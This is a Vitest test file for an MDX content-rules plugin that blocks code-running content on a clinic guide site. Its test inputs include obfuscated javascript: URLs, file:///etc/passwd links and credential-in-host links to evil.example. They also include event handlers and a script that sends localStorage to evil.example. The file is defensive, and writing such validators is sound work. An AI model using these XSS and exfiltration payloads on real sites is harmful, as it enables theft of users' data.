/**
 * What an editor may write in MDX (src/integrations/shared/content-rules.ts), node by node, and through the real
 * Markdown processor (Sätteri, as the build runs it) with the plugin that stops the build.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { mdxToJs } from 'satteri';
import { describe, expect, it } from 'vitest';
import {
  CONTENT_COMPONENTS,
  imageProblem,
  isCommentOnly,
  linkProblem,
  nodeProblems,
  urlScheme,
} from '../../src/integrations/shared/content-rules';
import { ContentRulesError, contentRules } from '../../src/integrations/mdast-content-rules';
import { CONTENT } from '../support/paths';

/** Compiles MDX as the build does, with the rules; resolves to the error it stops with, if any. */
async function compile(
  source: string,
  file = path.join(CONTENT, 'guides', 'example.mdx'),
  frontmatter: Record<string, unknown> = { title: 'Example' },
): Promise<Error | undefined> {
  try {
    await mdxToJs(source, {
      mdastPlugins: [contentRules],
      fileURL: pathToFileURL(file),
      // As @astrojs/mdx passes it: the frontmatter, already parsed, on the document's data.
      data: { astro: { frontmatter, headings: [], localImagePaths: new Set(), remoteImagePaths: new Set() } },
    });
    return undefined;
  } catch (error) {
    return error as Error;
  }
}

describe('urlScheme', () => {
  it('reads the scheme as a browser does, through case, tabs, line breaks and leading spaces', () => {
    expect(urlScheme('https://example.org')).toBe('https');
    expect(urlScheme('JaVaScRiPt:alert(1)')).toBe('javascript');
    expect(urlScheme('java\tscript:alert(1)')).toBe('javascript');
    expect(urlScheme('java\nscript:alert(1)')).toBe('javascript');
    expect(urlScheme(' \u0001javascript:alert(1)')).toBe('javascript');
  });
  it('is undefined for addresses on this site and scheme-relative ones', () => {
    for (const url of ['/guides/safety/', '#section', '?q=1', 'safety/', '../x', '//example.org/'])
      expect(urlScheme(url), url).toBeUndefined();
  });
});

describe('linkProblem', () => {
  it('allows web, phone, text and email addresses and addresses on the site', () => {
    for (const url of [
      'https://www.nhs.uk/',
      'http://example.org',
      'tel:988',
      'sms:741741',
      'mailto:a@b.example',
      '/plan/',
      '#stop',
    ])
      expect(linkProblem(url), url).toBeUndefined();
  });
  it('refuses every other scheme', () => {
    for (const url of [
      'javascript:alert(1)',
      'JAVASCRIPT:x',
      'java\tscript:x',
      'data:text/html,hi',
      'vbscript:x',
      'file:///etc/passwd',
    ])
      expect(linkProblem(url), url).toMatch(/only web .* can be linked/);
  });
  it('refuses a name and password before the host, which hides where a link goes', () => {
    expect(linkProblem('https://www.nhs.uk@evil.example/')).toMatch(/hides where it really goes/);
    expect(linkProblem('//user:pw@evil.example/')).toMatch(/hides where it really goes/);
    expect(linkProblem('https://example.org/path?email=a@b.example')).toBeUndefined();
  });
});

describe('imageProblem', () => {
  it('allows only files on this site', () => {
    expect(imageProblem('/images/room.png')).toBeUndefined();
    for (const url of ['https://evil.example/pixel.png', '//evil.example/p.png', 'data:image/png;base64,AAAA'])
      expect(imageProblem(url), url).toMatch(/files on this site/);
  });
});

describe('isCommentOnly', () => {
  it('is true only for an expression that is one comment and nothing else', () => {
    expect(isCommentOnly('/* a note */')).toBe(true);
    expect(isCommentOnly(' /* a\nnote */ ')).toBe(true);
    expect(isCommentOnly('/* a */ process.env.HOME /* b */')).toBe(false);
    expect(isCommentOnly('process.env.HOME')).toBe(false);
    expect(isCommentOnly('// note')).toBe(false);
  });
});

describe('nodeProblems', () => {
  const element = (name: string, attributes: { type: string; name?: string; value?: unknown }[] = []) =>
    ({ type: 'mdxJsxFlowElement', name, attributes }) as Parameters<typeof nodeProblems>[0];

  it('accepts every content component with its documented props as text', () => {
    for (const [name, props] of Object.entries(CONTENT_COMPONENTS)) {
      const attributes = props.map((prop) => ({ type: 'mdxJsxAttribute', name: prop, value: 'words' }));
      expect(nodeProblems(element(name, attributes)), name).toEqual([]);
    }
  });
  it('accepts a few harmless inline HTML elements', () => {
    expect(nodeProblems(element('abbr', [{ type: 'mdxJsxAttribute', name: 'title', value: 'as needed' }]))).toEqual([]);
    expect(nodeProblems(element('br'))).toEqual([]);
  });
  it('refuses script, style, iframe and any other element not on the list, saying why', () => {
    expect(nodeProblems(element('script'))).toEqual([
      expect.stringMatching(/^<script> cannot be used in content: it would run code/),
    ]);
    expect(nodeProblems(element('style'))[0]).toMatch(/^<style> cannot be used/);
    expect(nodeProblems(element('iframe'))[0]).toMatch(/load another website/);
    expect(nodeProblems(element('SCRIPT'))[0]).toMatch(/^<SCRIPT> cannot be used in content: it would run code/);
    expect(nodeProblems(element('div'))[0]).toMatch(/^<div> cannot be used in content; write Markdown/);
    expect(nodeProblems(element('Fetcher'))[0]).toMatch(/^<Fetcher> is not a content component; use one of: <Callout>/);
  });
  it('refuses raw HTML, and says a component in a Markdown guide needs an .mdx file', () => {
    const html = (value: string) => ({ type: 'html', value }) as Parameters<typeof nodeProblems>[0];
    expect(nodeProblems(html('<script>x()</script>'))[0]).toMatch(
      /^raw HTML "<script>x\(\)<\/script>" cannot be used in content/,
    );
    expect(nodeProblems(html('<Term id="integration">'))[0]).toMatch(
      /^raw HTML "<Term id="integration">": content components work in \.mdx files only; rename the file to \.mdx/,
    );
  });
  it('refuses event handlers, style attributes, expressions, spreads and unknown props', () => {
    const problems = nodeProblems(
      element('Callout', [
        { type: 'mdxJsxAttribute', name: 'type', value: 'note' },
        { type: 'mdxJsxAttribute', name: 'onClick', value: 'steal()' },
        { type: 'mdxJsxAttribute', name: 'style', value: 'color:red' },
        {
          type: 'mdxJsxAttribute',
          name: 'title',
          value: { type: 'mdxJsxAttributeValueExpression', value: 'process.env' },
        },
        { type: 'mdxJsxExpressionAttribute', value: '...props' },
        { type: 'mdxJsxAttribute', name: 'colour', value: 'red' },
      ]),
    );
    expect(problems).toEqual([
      expect.stringMatching(/onClick="…">: on… attributes run code/),
      expect.stringMatching(/style="…">: style attributes are blocked/),
      expect.stringMatching(
        /title=\{…\}>: \{…\} runs as code when the site is built; write the value in quotes, title="…"/,
      ),
      expect.stringMatching(/spread attributes run as code/),
      expect.stringMatching(/colour="…">: <Callout> takes only type, title/),
    ]);
  });
  it('refuses import and export lines and expressions, but not comments', () => {
    expect(nodeProblems({ type: 'mdxjsEsm', value: 'export const a = 1' })[0]).toMatch(/"import" and "export" lines/);
    expect(nodeProblems({ type: 'mdxTextExpression', value: 'process.env.HOME' })[0]).toMatch(
      /^\{process\.env\.HOME\}: \{…\} runs as code/,
    );
    expect(nodeProblems({ type: 'mdxFlowExpression', value: '/* editors: check yearly */' })).toEqual([]);
  });
});

describe('the content-rules plugin, run by the Markdown processor', () => {
  it('stops on every problem in a file at once, each with its file, line and column', async () => {
    const source = [
      '## Safety', // 1
      '', // 2
      "<script>fetch('https://evil.example/?d=' + JSON.stringify(localStorage))</script>", // 3
      '', // 4
      'Your home is {process.env.HOME}.', // 5
      '', // 6
      'export const secret = 1', // 7
      '', // 8
      '[Click here](javascript:alert(1))', // 9
    ].join('\n');
    const error = await compile(source);
    expect(error).toBeInstanceOf(ContentRulesError);
    const lines = error?.message.split('\n') ?? [];
    expect(lines[0]).toMatch(/^content\/guides\/example\.mdx has content that could run code/);
    expect(lines.slice(1)).toEqual([
      expect.stringMatching(/^content\/guides\/example\.mdx:3:1: <script> cannot be used/),
      expect.stringMatching(/^content\/guides\/example\.mdx:5:14: \{process\.env\.HOME\}/),
      expect.stringMatching(/^content\/guides\/example\.mdx:7:1: "import" and "export"/),
      expect.stringMatching(/^content\/guides\/example\.mdx:9:1: link to "javascript:alert\(1\)"/),
    ]);
  });

  it('refuses a frontmatter layout, which would wrap the page in a file of code', async () => {
    const error = await compile('Words.', undefined, { title: 'Example', layout: '../../src/steal.astro' });
    expect(error?.message).toMatch(
      /content\/guides\/example\.mdx: layout: in the frontmatter would load a file of code/,
    );
  });

  it('lets plain content through: Markdown, components with quoted props, comments, site and web links', async () => {
    const source = [
      '## Before your session',
      '',
      '{/* Reviewed yearly. */}',
      '',
      'Stop eating <ClinicSetting name="fasting.solids" /> before. See [safety](/guides/safety/#stop) or [the NHS](https://www.nhs.uk/).',
      '',
      '<Callout type="important" title="Tell us">Call <abbr title="as soon as possible">ASAP</abbr>.</Callout>',
    ].join('\n');
    expect(await compile(source)).toBeUndefined();
  });

  it('passes every guide and handout in content/', async () => {
    for (const folder of ['guides', 'handouts']) {
      const dir = path.join(CONTENT, folder);
      for (const name of readdirSync(dir).filter((file) => file.endsWith('.mdx'))) {
        // The processor sees the body with the frontmatter blanked out, so line numbers stay true.
        const text = readFileSync(path.join(dir, name), 'utf8');
        const body = text.replace(/^---\n[\s\S]*?\n---/, (frontmatter) => frontmatter.replace(/[^\n]/g, ' '));
        expect(await compile(body, path.join(dir, name)), `${folder}/${name}`).toBeUndefined();
      }
    }
  });
});

describe('the allow-list and the components the guides get', () => {
  it('lists every component in src/components/content/index.ts, so a new one is allowed only with its props named', () => {
    const index = readFileSync(path.join(CONTENT, '..', 'src', 'components', 'content', 'index.ts'), 'utf8');
    const exported = [...index.matchAll(/export \{ default as (\w+) \}/g)].map((match) => match[1]);
    expect(exported.length).toBeGreaterThan(0);
    for (const name of exported) expect(Object.keys(CONTENT_COMPONENTS), name).toContain(name);
  });
});
